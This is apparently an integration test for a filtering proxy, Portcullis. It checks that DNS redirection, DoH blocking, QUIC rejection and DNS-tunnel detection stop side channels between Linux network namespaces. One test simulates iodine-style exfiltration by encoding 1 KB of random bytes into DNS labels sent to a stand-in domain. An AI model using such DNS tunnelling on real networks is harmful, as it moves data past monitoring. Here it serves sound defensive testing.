/**
 * Side channels with real hosts: a client whose only resolver is Portcullis, behind a gateway
 * that runs Portcullis (transparent HTTP/TLS and a DNS listener) with the firewall rules that
 * `portcullis transparent rules` prints.
 *
 *   client 10.201.A.2  --  gateway 10.201.A.1 | 10.201.B.1  --  outside 10.201.B.2
 *   resolv.conf: the gateway   Portcullis; its resolver: outside   HTTPS origin, UDP 443, and a name server
 *                                                                  that answers everything (the attacker's too)
 *
 * The outside host records every DNS question, TLS handshake, request and UDP datagram it gets:
 * what the client's queries made leave the network is what it saw. The clients are dig, curl
 * and node's dgram, with no proxy settings.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { commandLines } from '../../src/net/firewall-rules.js';
import { must, run, startIn, which, type Background } from '../helpers/netns.js';
import { tunnelNames } from '../helpers/dns-tunnel.js';
import { makeOriginCertificates } from '../helpers/test-certs.js';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
const BIN = path.join(ROOT, 'bin', 'portcullis.js');

const missingPrerequisite = (): string | undefined => {
  if (process.platform !== 'linux') return 'network namespaces need Linux';
  if (process.getuid?.() !== 0) return 'needs root (network namespaces and iptables)';
  for (const tool of ['ip', 'iptables', 'curl', 'dig']) {
    if (!which(tool)) return `${tool} is missing (Debian: iproute2 iptables curl dnsutils; scripts/install-test-deps.sh installs them)`;
  }
  if (!existsSync(path.join(ROOT, 'dist', 'cli', 'main.js'))) return 'the CLI is not built (npm run build)';
  return undefined;
};
const SKIP = missingPrerequisite();

/** The outside host: HTTPS on 443, UDP on 443, and a name server on UDP 53 answering A with its own address. */
const OUTSIDE_SCRIPT = `
import dgram from 'node:dgram';
import fs from 'node:fs';
import https from 'node:https';
import { createRequire } from 'node:module';
const dnsPacket = createRequire(process.env.ROOT + '/package.json')('dns-packet');
const log = (event) => process.stdout.write(JSON.stringify(event) + '\\n');
const secure = https.createServer({ cert: fs.readFileSync(process.env.CERT_FILE), key: fs.readFileSync(process.env.KEY_FILE) }, (req, res) => {
  log({ event: 'request', url: req.url, host: req.headers.host ?? null });
  res.writeHead(200, { 'content-type': 'text/plain' });
  res.end('outside ' + req.url + '\\n');
});
secure.on('secureConnection', (s) => log({ event: 'tls', sni: s.servername || null }));
const quic = dgram.createSocket('udp4');
quic.on('message', (msg) => log({ event: 'udp', port: 443, text: msg.toString() }));
const dns = dgram.createSocket('udp4');
dns.on('message', (message, from) => {
  let query;
  try { query = dnsPacket.decode(message); } catch { return; }
  const q = query.questions[0];
  log({ event: 'dns', name: q.name, type: q.type, from: from.address });
  const answers = q.type === 'A' ? [{ type: 'A', name: q.name, ttl: 300, data: process.env.SELF }] : [];
  dns.send(dnsPacket.encode({ type: 'response', id: query.id, flags: dnsPacket.RECURSION_AVAILABLE, questions: [q], answers }), from.port, from.address);
});
let pending = 3;
const ready = () => { if (--pending === 0) log({ event: 'listening' }); };
secure.listen(443, '0.0.0.0', ready);
quic.bind(443, '0.0.0.0', ready);
dns.bind(53, '0.0.0.0', ready);
setTimeout(() => process.exit(0), 240000).unref();
`;

interface OutsideEvent {
  readonly event: 'listening' | 'tls' | 'request' | 'udp' | 'dns';
  readonly name?: string;
  readonly type?: string;
  readonly from?: string;
  readonly sni?: string | null;
  readonly url?: string;
}

const eventsOf = (outside: Background): OutsideEvent[] =>
  outside.output().split('\n').filter((line) => line.startsWith('{')).map((line) => JSON.parse(line) as OutsideEvent);

interface LogLine {
  readonly kind: string;
  readonly client: string;
  readonly method: string;
  readonly url: string;
  readonly sni?: string;
  readonly verdict: string;
  readonly reason: string;
  readonly detail?: string;
  readonly dns_rcode?: string;
}

const readLog = (file: string): LogLine[] =>
  (existsSync(file) ? readFileSync(file, 'utf8').split('\n').filter((l) => l.startsWith('{')).map((l) => JSON.parse(l) as LogLine) : []);

/** Waits (bounded) until the access log holds at least `count` lines that match: workers append to it as flows finish. */
const waitForLog = async (file: string, predicate: (line: LogLine) => boolean, count = 1, timeoutMs = 10_000): Promise<LogLine[]> => {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const found = readLog(file).filter(predicate);
    if (found.length >= count) return found;
    if (Date.now() > deadline) throw new Error(`${found.length} of ${count} access-log lines within ${timeoutMs} ms`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
};

test('side channels between network namespaces: the gateway is the only resolver, DNS cannot carry 1 KB out, DoH and QUIC do not pass', {
  skip: SKIP === undefined ? false : `side-channel netns test skipped: ${SKIP}`, timeout: 240_000,
}, async (t) => {
  const id = randomBytes(3).toString('hex');
  const a = 16 + 2 * (randomBytes(1)[0]! % 100);
  const b = a + 1;
  const ns = { client: `pcd-${id}-cli`, gateway: `pcd-${id}-gw`, outside: `pcd-${id}-out` };
  const ifc = { client: `pd${id}c`, gatewayA: `pd${id}ga`, gatewayB: `pd${id}gb`, outside: `pd${id}o` };
  const ip = { client: `10.201.${a}.2`, gatewayA: `10.201.${a}.1`, gatewayB: `10.201.${b}.1`, outside: `10.201.${b}.2` };
  const dir = mkdtempSync(path.join(tmpdir(), 'pcl-side-'));
  const created: string[] = [];
  t.after(async () => {
    for (const name of created.reverse()) {
      await run('ip', ['netns', 'del', name], 10_000);
      rmSync(path.join('/etc/netns', name), { recursive: true, force: true });
    }
    rmSync(dir, { recursive: true, force: true });
  });

  // ---- hosts, links, and each host's resolv.conf (ip netns exec mounts /etc/netns/NAME/resolv.conf) ----
  const resolvers: Record<string, string> = { [ns.client]: ip.gatewayA, [ns.gateway]: ip.outside, [ns.outside]: '127.0.0.1' };
  for (const name of [ns.client, ns.gateway, ns.outside]) {
    await must('ip', ['netns', 'add', name]);
    created.push(name);
    mkdirSync(path.join('/etc/netns', name), { recursive: true });
    writeFileSync(path.join('/etc/netns', name, 'resolv.conf'), `nameserver ${resolvers[name]}\noptions timeout:2 attempts:1\n`);
    await must('ip', ['-n', name, 'link', 'set', 'lo', 'up']);
  }
  await must('ip', ['link', 'add', ifc.client, 'netns', ns.client, 'type', 'veth', 'peer', 'name', ifc.gatewayA, 'netns', ns.gateway]);
  await must('ip', ['link', 'add', ifc.outside, 'netns', ns.outside, 'type', 'veth', 'peer', 'name', ifc.gatewayB, 'netns', ns.gateway]);
  for (const [name, iface, cidr] of [[ns.client, ifc.client, `${ip.client}/24`], [ns.gateway, ifc.gatewayA, `${ip.gatewayA}/24`],
    [ns.gateway, ifc.gatewayB, `${ip.gatewayB}/24`], [ns.outside, ifc.outside, `${ip.outside}/24`]] as const) {
    await must('ip', ['-n', name, 'addr', 'add', cidr, 'dev', iface]);
    await must('ip', ['-n', name, 'link', 'set', iface, 'up']);
  }
  await must('ip', ['-n', ns.client, 'route', 'add', 'default', 'via', ip.gatewayA]);
  await must('ip', ['-n', ns.outside, 'route', 'add', `10.201.${a}.0/24`, 'via', ip.gatewayB]);
  // Forwarding on: without the printed rules, the client's DNS, QUIC and TLS would reach the outside host.
  await must('ip', ['netns', 'exec', ns.gateway, 'sysctl', '-q', '-w', 'net.ipv4.ip_forward=1']);

  // ---- the outside host ----
  const certs = makeOriginCertificates(['www.example.com', 'mozilla.cloudflare-dns.com']);
  writeFileSync(path.join(dir, 'outside.mjs'), OUTSIDE_SCRIPT);
  writeFileSync(path.join(dir, 'cert.pem'), certs.cert);
  writeFileSync(path.join(dir, 'key.pem'), certs.key);
  writeFileSync(path.join(dir, 'ca.pem'), certs.caCert);
  const outside = startIn(t, ns.outside, [process.execPath, path.join(dir, 'outside.mjs')], {
    CERT_FILE: path.join(dir, 'cert.pem'), KEY_FILE: path.join(dir, 'key.pem'), SELF: ip.outside, ROOT,
  }, ROOT);
  await outside.waitFor(/"listening"/, 'stdout');

  // ---- the gateway: Portcullis and the rules it prints ----
  const configFile = path.join(dir, 'portcullis.yaml');
  const accessLog = path.join(dir, 'access.log');
  writeFileSync(configFile, `
listen:
  - { address: "0.0.0.0:3129", mode: transparent-http }
  - { address: "0.0.0.0:3130", mode: transparent-tls }
  - { address: "0.0.0.0:5353", mode: dns }
admin: { address: "127.0.0.1:9464" }
state_dir: ${path.join(dir, 'state')}
destinations:
  allow_ranges: [10.201.0.0/16]
upstream:
  tls: { extra_ca: [${path.join(dir, 'ca.pem')}] }
log: { format: json, file: ${accessLog} }
dns:
  exfiltration: { rate: 20/s }
rules:
  - name: example
    hosts: ["*.example.com"]
  - name: cloudflare-wide
    hosts: ["*.cloudflare-dns.com"]
`);
  const printed = await run(process.execPath, [BIN, 'transparent', 'rules', '-c', configFile, '--target', 'gateway', '--format', 'iptables', '--family', '4', '--interface', ifc.gatewayA]);
  assert.equal(printed.code, 0, printed.stderr);
  const commands = commandLines(printed.stdout);
  for (const expected of [/-p udp --dport 53 -j REDIRECT --to-ports 5353/, /-p tcp --dport 53 -j REDIRECT --to-ports 5353/, /-p udp --dport 443 -j REJECT/, /-p tcp --dport 853 -j REJECT/]) {
    assert.ok(commands.some((line) => expected.test(line)), `${expected}\n${printed.stdout}`);
  }
  for (const line of commands) await must('ip', ['netns', 'exec', ns.gateway, 'sh', '-c', line]);
  const proxy = startIn(t, ns.gateway, [process.execPath, BIN, 'run', '-c', configFile], {}, ROOT);
  await proxy.waitFor(/listening on/, 'stderr', 15_000);

  const inClient = (file: string, args: readonly string[], timeoutMs = 30_000): ReturnType<typeof run> => run('ip', ['netns', 'exec', ns.client, file, ...args], timeoutMs);
  const dig = (args: readonly string[]): ReturnType<typeof run> => inClient('dig', ['+time=2', '+tries=1', ...args]);
  const fromClient = (): OutsideEvent[] => eventsOf(outside).filter((e) => e.event === 'dns' && e.from === ip.client);
  const status = (output: string): string | undefined => /status: ([A-Z]+)/.exec(output)?.[1];

  await t.test('the client resolves an allowed name through Portcullis and fetches it over TCP through the proxy', async () => {
    const answer = await dig(['www.example.com', 'A', '+short']);
    assert.equal(answer.stdout.trim(), ip.outside, answer.stdout + answer.stderr);
    const fetched = await inClient('curl', ['-sS', '--max-time', '10', '--cacert', path.join(dir, 'ca.pem'), 'https://www.example.com/through-dns']);
    assert.equal(fetched.stdout, 'outside /through-dns\n', fetched.stderr);
    await waitForLog(accessLog, (l) => l.kind === 'dns' && l.url === 'www.example.com' && l.verdict === 'allow' && l.client === ip.client);
    await waitForLog(accessLog, (l) => l.kind === 'tunnel' && l.sni === 'www.example.com' && l.verdict === 'allow');
  });

  await t.test('other names get NXDOMAIN, and nothing about them leaves the network', async () => {
    const before = eventsOf(outside).length;
    const denied = await dig(['evil.test', 'A']);
    assert.equal(status(denied.stdout), 'NXDOMAIN', denied.stdout);
    assert.ok(!eventsOf(outside).slice(before).some((e) => e.name === 'evil.test'));
    await waitForLog(accessLog, (l) => l.kind === 'dns' && l.url === 'evil.test' && l.reason === 'dns-name-not-allowed');
  });

  await t.test('DNS sent straight to an outside resolver is redirected to Portcullis: the resolver never hears from the client', async () => {
    for (const args of [[`@${ip.outside}`, 'evil.test', 'A'], [`@${ip.outside}`, '+tcp', 'evil.test', 'A']]) {
      const direct = await dig(args);
      assert.equal(status(direct.stdout), 'NXDOMAIN', direct.stdout + direct.stderr);
    }
    const allowed = await dig([`@${ip.outside}`, 'www.example.com', 'A', '+short']);
    assert.equal(allowed.stdout.trim(), ip.outside);
    assert.deepEqual(fromClient(), []);
  });

  await t.test('a DoH resolver under a wildcard rule: no name through DNS, and no TLS through the proxy', async () => {
    const name = await dig(['mozilla.cloudflare-dns.com', 'A']);
    assert.equal(status(name.stdout), 'NXDOMAIN', name.stdout);
    const before = eventsOf(outside).length;
    const doh = await inClient('curl', ['-sS', '--max-time', '10', '--cacert', path.join(dir, 'ca.pem'), '--resolve', `mozilla.cloudflare-dns.com:443:${ip.outside}`,
      '-H', 'accept: application/dns-message', 'https://mozilla.cloudflare-dns.com/dns-query?dns=AAABAAABAAAAAAAABGV2aWwEdGVzdAAAAQAB']);
    assert.notEqual(doh.code, 0, doh.stdout);
    assert.deepEqual(eventsOf(outside).slice(before).filter((e) => e.event !== 'dns'), []);
    const lines = await waitForLog(accessLog, (l) => l.reason === 'doh-blocked', 2);
    assert.ok(lines.some((l) => l.kind === 'dns') && lines.some((l) => l.kind === 'tunnel' && l.sni === 'mozilla.cloudflare-dns.com'), JSON.stringify(lines));
  });

  await t.test('QUIC fails fast with the REJECT the rules print, and the same fetch over TCP works', async () => {
    const attempt = await inClient(process.execPath, ['-e', `
      const s = require('dgram').createSocket('udp4'); const start = Date.now();
      const done = (what) => { console.log(JSON.stringify({ what, ms: Date.now() - start })); s.close(); };
      const timer = setTimeout(() => done('timeout'), 5000);
      s.on('error', (e) => { clearTimeout(timer); done(e.code); });
      s.connect(443, ${JSON.stringify(ip.outside)}, () => { s.send('quic-initial'); setTimeout(() => s.send('quic-initial'), 200); });`]);
    const outcome = JSON.parse(attempt.stdout) as { what: string; ms: number };
    assert.equal(outcome.what, 'ECONNREFUSED', attempt.stdout + attempt.stderr);
    assert.ok(!eventsOf(outside).some((e) => e.event === 'udp'));
    t.diagnostic(`the QUIC attempt was refused after ${outcome.ms} ms`);
    const fetched = await inClient('curl', ['-sS', '--max-time', '10', '--cacert', path.join(dir, 'ca.pem'), 'https://www.example.com/after-quic']);
    assert.equal(fetched.stdout, 'outside /after-quic\n', fetched.stderr);
  });

  await t.test('1 KB of base32 in labels under *.example.com is flagged and throttled, and less than 1 KB reaches the outside', async () => {
    const secret = randomBytes(1024);
    // Long labels as iodine sends them, then short ones as a tool sends that adapts to the label and entropy limits.
    const iodine = tunnelNames(secret, 63, 3, 't.example.com');
    const names = tunnelNames(secret, 20, 1, 't.example.com');
    const send = async (batchNames: readonly string[], file: string): Promise<void> => {
      writeFileSync(path.join(dir, file), batchNames.map((name) => `${name} A`).join('\n'));
      const result = await dig(['-f', path.join(dir, file), '+noall', '+comments']);
      assert.equal([...result.stdout.matchAll(/status: /g)].length, batchNames.length, result.stderr);
    };
    await send(iodine, 'iodine.txt');
    // The tool adapts: once its throttle has run out, short labels under every per-name limit, as fast as dig sends them.
    await new Promise((resolve) => setTimeout(resolve, 2500));
    await send(names, 'short.txt');
    const leaked = new Set(eventsOf(outside).filter((e) => e.event === 'dns' && (e.name ?? '').endsWith('.t.example.com')).map((e) => e.name as string));
    const leakedCharacters = [...leaked].reduce((sum, name) => sum + name.split('.').slice(0, -4).join('').length, 0);
    assert.ok(leakedCharacters * 5 / 8 < 1024, `${leakedCharacters} base32 characters left`);
    assert.ok(![...leaked].some((name) => iodine.includes(name)), 'an iodine-style name left');
    await waitForLog(accessLog, (l) => l.kind === 'dns' && l.url.endsWith('.t.example.com'), iodine.length + names.length);
    const flagged = readLog(accessLog).filter((l) => l.reason === 'dns-exfiltration-suspected' && l.client === ip.client);
    assert.ok(flagged.length >= iodine.length, `${flagged.length} flagged`);
    assert.ok(flagged.some((l) => /max_name_length|max_label_length/.test(l.detail ?? '')));
    assert.ok(flagged.some((l) => /dns\.exfiltration\.(rate|new_name_budget)/.test(l.detail ?? '')), 'never throttled');
    const metrics = await run('ip', ['netns', 'exec', ns.gateway, 'curl', '-sS', 'http://127.0.0.1:9464/metrics']);
    const counter = new RegExp(`portcullis_dns_exfiltration_suspected_total\\{client="${ip.client.replace(/\./g, '\\.')}"\\} (\\d+)`).exec(metrics.stdout);
    assert.equal(Number(counter?.[1]), flagged.length, metrics.stdout.slice(0, 2000));
    const byLimit = (pattern: RegExp): number => flagged.filter((l) => pattern.test(l.detail ?? '')).length;
    t.diagnostic(`flagged by name or label length: ${byLimit(/max_(name|label)_length/)}, by entropy: ${byLimit(/max_entropy/)}, by rate: ${byLimit(/exfiltration\.rate/)}, by new-name budget: ${byLimit(/new_name_budget/)}`);
    t.diagnostic(`${iodine.length + names.length} queries carried 1024 bytes; ${leaked.size} names (${Math.round(leakedCharacters * 5 / 8)} bytes) reached the outside; ${flagged.length} flagged`);
  });

  const stopped = new Promise((resolve) => proxy.child.once('exit', resolve));
  proxy.child.kill('SIGTERM');
  await Promise.race([stopped, new Promise((resolve) => setTimeout(resolve, 5000))]);
});
